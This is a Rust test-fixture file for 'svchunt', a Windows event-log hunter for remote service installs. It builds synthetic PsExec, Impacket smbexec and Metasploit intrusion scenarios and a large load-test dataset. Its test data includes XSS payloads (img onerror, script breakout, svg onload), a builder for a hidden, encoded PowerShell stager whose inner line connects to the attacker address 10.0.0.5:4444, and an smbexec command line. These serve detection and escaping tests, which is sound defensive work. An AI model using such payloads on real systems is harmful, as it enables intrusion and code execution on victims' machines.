//! Scenarios for the HTML report tests: a small intrusion run through the real lifecycle
//! correlation (so coverage, sources and verdicts are what svchunt would say), and a large
//! generated set of findings for the load-time test.
#![allow(dead_code)]

pub mod browser;

use std::sync::Arc;

use base64::Engine as _;
use jiff::{SignedDuration, Timestamp};
use svchunt::event::{Locator, UserRef};
use svchunt::lifecycle::Role;
use svchunt::{
    Confidence, Coverage, Event, Evidence, Finding, Kind, Report as LifecycleReport, Source, Tool,
    Verdict,
};

use crate::common::*;

/// A service name that would run script if it were ever written as markup.
pub const IMG_NAME: &str =
    "<img src=x onerror=\"document.documentElement.setAttribute('data-pwned','img')\">";
/// An image path that would end the data element and run script if the JSON were not escaped.
pub const SCRIPT_PATH: &str = "</script><script>document.documentElement.setAttribute('data-pwned','script')</script>cmd.exe /c whoami";
/// An account name with markup in it.
pub const MARKUP_ACCOUNT: &str = "CORP\\<svg onload=alert(1)>";

const ALL_ACCESS: &str = "%%1537\r\n\t%%1538\r\n\t%%1539\r\n\t%%7184\r\n\t%%7188";
const ALICE: &str = "CORP\\alice";
const ALICE_SID: &str = "S-1-5-21-1-2-3-1104";
const BOB: &str = "CORP\\bob";
const BOB_SID: &str = "S-1-5-21-1-2-3-1105";

fn at(base: &str, ms: i64) -> String {
    (t(base) + SignedDuration::from_millis(ms)).to_string()
}

fn set_field(e: &mut Event, name: &str, value: &str) {
    for (k, v) in &mut e.data {
        if k == name {
            *v = value.to_string();
        }
    }
}

/// A network logon, its 4697 + 7045 + services.exe's 4674 at creation: how every remote
/// service install in this scenario starts.
#[allow(clippy::too_many_arguments)]
fn remote_install(
    when: &str,
    host: &str,
    (sid, account): (&str, &str),
    logon: &str,
    (ip, workstation): (&str, &str),
    key: &str,
    display: &str,
    image: &str,
) -> Vec<Event> {
    let mut logon_event = s4624(&at(when, -500), host, sid, account, logon, "3", ip);
    set_field(&mut logon_event, "WorkstationName", workstation);
    vec![
        logon_event,
        s4697(when, host, sid, account, logon, key, image),
        s7045(when, host, sid, display, image),
        s4674(when, host, sid, account, logon, key, ALL_ACCESS),
    ]
}

/// The Metasploit psexec_psh shape: `-enc` UTF-16LE PowerShell holding a gzip blob.
pub fn encoded_powershell() -> String {
    use std::io::Write;
    let engine = base64::engine::general_purpose::STANDARD;
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(b"$c = New-Object Net.Sockets.TCPClient('10.0.0.5', 4444) # stage two")
        .unwrap();
    let inner = format!(
        "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('{}'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
        engine.encode(gz.finish().unwrap())
    );
    let utf16: Vec<u8> = inner.encode_utf16().flat_map(u16::to_le_bytes).collect();
    format!(
        "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -enc {}",
        engine.encode(utf16)
    )
}

/// The small scenario's events: PsExec to two workstations (one removal logged 80 ms before
/// its creation), Impacket smbexec hopping on from one of them to a server, Metasploit's encoded
/// PowerShell, a service whose name and path are markup, and an ordinary driver install.
pub fn small_events() -> Vec<Event> {
    let wks01 = "WKS01.corp.local";
    let wks02 = "WKS02.corp.local";
    let wks03 = "WKS03.corp.local";
    let wks04 = "WKS04.corp.local";
    let srv01 = "SRV01.corp.local";
    let attacker = ("10.0.0.5", "ATTACKER");
    let psexec = "%SystemRoot%\\PSEXESVC.exe";
    let svc_key = "HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC";
    let alice = (ALICE_SID, ALICE);
    let mut ev = Vec::new();

    // PsExec to WKS01: runs four seconds, Sysmon sees its key deleted.
    let t1 = "2024-03-01T10:00:01.000Z";
    ev.extend(remote_install(
        t1, wks01, alice, "0x1001", attacker, "PSEXESVC", "PsExec", psexec,
    ));
    ev.push(s7036(&at(t1, 200), wks01, "PsExec", "running"));
    ev.push(s7036(&at(t1, 4_000), wks01, "PsExec", "stopped"));
    ev.push(sysmon_registry(
        12,
        &at(t1, 4_100),
        wks01,
        "DeleteKey",
        svc_key,
    ));

    // PsExec to WKS02 twice; the first removal is logged 80 ms before the creation.
    let t2 = "2024-03-01T10:01:00.000Z";
    ev.extend(remote_install(
        t2, wks02, alice, "0x2001", attacker, "PSEXESVC", "PsExec", psexec,
    ));
    ev.push(sysmon_registry(
        12,
        &at(t2, -80),
        wks02,
        "DeleteKey",
        svc_key,
    ));
    let t3 = "2024-03-01T10:05:00.000Z";
    ev.extend(remote_install(
        t3, wks02, alice, "0x2002", attacker, "PSEXESVC", "PsExec", psexec,
    ));
    ev.push(s7036(&at(t3, 150), wks02, "PsExec", "running"));
    ev.push(sysmon_registry(
        13,
        &at(t3, 2_500),
        wks02,
        "SetValue",
        &format!("{svc_key}\\DeleteFlag"),
    ));

    // Impacket smbexec from WKS01 (its workstation name) to SRV01: a command, a start time-out,
    // no removal logged.
    let t4 = "2024-03-01T10:20:00.000Z";
    let smbexec = "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %SYSTEMROOT%\\bTmQ.bat & %COMSPEC% /Q /c %SYSTEMROOT%\\bTmQ.bat & del %SYSTEMROOT%\\bTmQ.bat";
    ev.extend(remote_install(
        t4,
        srv01,
        (BOB_SID, BOB),
        "0x4001",
        ("10.0.0.21", "WKS01"),
        "BTOBTO",
        "BTOBTO",
        smbexec,
    ));
    ev.push(s7009(&at(t4, 30_000), srv01, "BTOBTO"));

    // Metasploit psexec_psh to WKS03.
    let t5 = "2024-03-01T11:00:00.000Z";
    ev.extend(remote_install(
        t5,
        wks03,
        alice,
        "0x5001",
        attacker,
        "qZxWvUtS",
        "qZxWvUtS",
        &encoded_powershell(),
    ));
    ev.push(s7009(&at(t5, 30_000), wks03, "qZxWvUtS"));

    // Markup in the name, path and account, from another address.
    let t6 = "2024-03-01T12:00:00.000Z";
    ev.extend(remote_install(
        t6,
        wks04,
        ("S-1-5-21-1-2-3-1666", MARKUP_ACCOUNT),
        "0x6001",
        ("10.0.0.66", "ATTACKER"),
        IMG_NAME,
        IMG_NAME,
        SCRIPT_PATH,
    ));
    ev.push(s7009(&at(t6, 30_000), wks04, IMG_NAME));

    // An ordinary driver install on the domain controller.
    let mut driver = s7045(
        "2024-03-01T09:00:00Z",
        "DC01.corp.local",
        "S-1-5-18",
        "VMware Pointing Device",
        "\\SystemRoot\\System32\\drivers\\vmmouse.sys",
    );
    driver.data[2].1 = "kernel mode driver".into();
    ev.push(driver);
    sorted(ev)
}

/// The small scenario, correlated and attributed as `svchunt hunt` would.
pub fn small() -> LifecycleReport {
    hunt(small_events())
}

/// `n` generated findings over 50 hosts and two weeks, with evidence like real ones: the load
/// test's data, sized like a large estate's worth of PsExec.
pub fn big(n: usize) -> LifecycleReport {
    let start: Timestamp = "2024-03-01T00:00:00Z".parse().unwrap();
    let two_weeks_ms: i64 = 14 * 86_400_000;
    let file: Arc<str> = Arc::from("C:\\triage\\collection\\logs\\System.evtx");
    let sec: Arc<str> = Arc::from("C:\\triage\\collection\\logs\\Security.evtx");
    let hosts: Vec<String> = (0..50).map(|h| format!("HOST{h:03}.corp.local")).collect();
    let tools = [
        Tool::Psexec,
        Tool::ImpacketSmbexec,
        Tool::Paexec,
        Tool::Unknown,
        Tool::Unknown,
    ];
    let mut findings = Vec::with_capacity(n);
    let mut record = 1000u64;
    for i in 0..n {
        // A deterministic spread: bursts every few hours, hosts and sources cycling.
        let offset = ((i as i64) * 7_919_000 + (i as i64 % 97) * 13) % two_weeks_ms;
        let created = start + SignedDuration::from_millis(offset);
        let host = &hosts[i % hosts.len()];
        let lifetime = match i % 5 {
            0 => None,
            1 => Some(-80),
            _ => Some(((i % 23) as i64 + 1) * 900),
        };
        let deleted = lifetime.map(|ms| created + SignedDuration::from_millis(ms));
        let mut evidence = Vec::new();
        let mut push = |ms: i64, id: u32, role: Role, detail: String, f: &Arc<str>| {
            record += 1;
            evidence.push(Evidence {
                event_id: id,
                time: created + SignedDuration::from_millis(ms),
                file: f.clone(),
                record_id: Some(record),
                locator: Locator::Record(record),
                role,
                detail,
            });
        };
        push(-500, 4624, Role::Logon, "4624: network logon".into(), &sec);
        push(
            0,
            7045,
            Role::Installed,
            "7045: service installed".into(),
            &file,
        );
        push(
            0,
            4697,
            Role::Installed,
            "4697: service installed".into(),
            &sec,
        );
        push(
            0,
            4674,
            Role::DeleteCapableOpenAtCreation,
            "4674: opened with DELETE by services.exe".into(),
            &sec,
        );
        push(
            150,
            7036,
            Role::Running,
            "7036: entered the running state".into(),
            &file,
        );
        if let Some(ms) = lifetime {
            push(ms, 12, Role::KeyDeleted, "12: key deleted".into(), &file);
        } else {
            push(
                30_000,
                7009,
                Role::StartTimeout,
                "7009: start timed out".into(),
                &file,
            );
        }
        evidence.sort_by_key(|a| (a.time, a.role));
        let src = i % 30;
        findings.push(Finding {
            kind: Kind::Creation,
            computer: host.clone(),
            service_name: format!("SVC{:05}", i % 4000),
            display_name: None,
            image_path: format!("%SystemRoot%\\svc{:05}.exe -run {}", i % 4000, i),
            service_type: Some("user mode service".into()),
            start_type: Some("demand start".into()),
            service_account: Some("LocalSystem".into()),
            created,
            deleted,
            deletion_evidence: lifetime.map(|_| Role::KeyDeleted),
            lifetime_ms: lifetime,
            verdict: if i % 11 == 0 {
                Verdict::Suspicious
            } else {
                Verdict::RemoteExecution
            },
            verdict_reasons: vec![
                "image path is a binary dropped through an admin share".into(),
                "network logon behind the install".into(),
            ],
            tool: tools[i % tools.len()],
            tool_reasons: vec!["named pipe and binary name match the tool".into()],
            tool_confidence: Some(Confidence::High),
            command: None,
            campaign: None,
            user: UserRef {
                sid: Some(format!("S-1-5-21-1-2-3-{}", 1100 + i % 7)),
                name: Some(format!("CORP\\operator{}", i % 7)),
            },
            source: Some(Source {
                logon_id: Some(format!("{:#x}", 0x10000 + i)),
                logon_type: Some(3),
                ip: Some(format!("10.1.{}.{}", src / 10, src % 10 + 10)),
                workstation: Some(format!("JUMP{src:02}")),
                auth: Some("NTLM".into()),
                logon_time: Some(created - SignedDuration::from_millis(500)),
                client_host: None,
                pipes: Vec::new(),
                files_written: Vec::new(),
            }),
            evidence,
            reconfiguration: None,
        });
    }
    findings.sort_by(|a, b| {
        (a.created, &a.computer, &a.service_name).cmp(&(b.created, &b.computer, &b.service_name))
    });
    let coverage = hosts
        .iter()
        .enumerate()
        .map(|(h, name)| Coverage {
            computer: name.clone(),
            system_log: true,
            security_log: true,
            installs_7045: true,
            installs_4697: h % 3 != 0,
            privileged_ops_4674: h % 4 != 0,
            state_changes_7036: true,
            logons_4624: true,
            share_access_5140_5145: h % 2 == 0,
            sysmon: h % 5 != 0,
        })
        .collect();
    LifecycleReport {
        findings,
        coverage,
        campaigns: Vec::new(),
    }
}

/// The HTML report as a string.
pub fn render(report: &LifecycleReport) -> String {
    let mut out = Vec::new();
    svchunt::emit::write_findings(&mut out, svchunt::emit::Format::Html, report)
        .expect("report renders");
    String::from_utf8(out).expect("report is UTF-8")
}
